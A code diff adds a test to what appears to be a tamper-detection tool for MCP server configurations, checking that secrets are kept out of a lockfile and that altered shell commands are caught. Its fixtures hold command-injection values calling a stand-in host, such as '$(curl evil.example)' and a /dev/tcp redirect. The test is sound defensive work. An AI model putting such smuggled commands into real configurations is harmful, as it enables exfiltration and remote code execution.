@@ -184,6 +184,23 @@ describe('what is written', () => {
     expect(code).toBe(1)
   })
 
+  it.each([
+    ['TOKEN=a8Kx02bTq9 npx server', 'TOKEN=a8Kx02bTq9 npx other'],
+    ['TOKEN=a8Kx02bTq9;npx server', 'TOKEN=a8Kx02bTq9;npx other'],
+    ['TOKEN=a8Kx02bTq9&&npx server', 'TOKEN=a8Kx02bTq9|sh&&npx server'],
+    ['export PASSWORD="kT9x2 mQ7vB"; server', 'export PASSWORD="kT9x2 mQ7vB$(curl evil.example)"; server'],
+    ['PASSWORD="kT9$(date)" server', 'PASSWORD="kT9$(curl evil.example)" server'],
+    ['server --password `date`x1', 'server --password `curl evil.example`x1'],
+    ['server --token abc --x', 'server --token abc; evil --x'],
+    ['SECRET_KEY=words server', 'SECRET_KEY=words</dev/tcp/evil.example/1 server'],
+  ])('hides in no secret what a shell does: %s', async (before, after) => {
+    const script = (text: string) => ({ '.mcp.json': servers({ a: { command: 'sh', args: ['-c', text] } }) })
+    const lock = await lockOf(script(before))
+    for (const word of ['a8Kx02bTq9', 'kT9x2']) expect(lock).not.toContain(word)
+    expect((await checked(script(before), lock)).code).toBe(0)
+    expect((await checked(script(after), lock)).code).toBe(1)
+  })
+
   it('keeps what pins code, whatever it looks like', async () => {
     const pins = ['0123456789abcdef0123456789abcdef01234567', 'f3a9c1d27e5b8046f3a9c1d27e5b8046f3a9c1d2']
     const [digest, other] = ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'ab12'.repeat(16)]
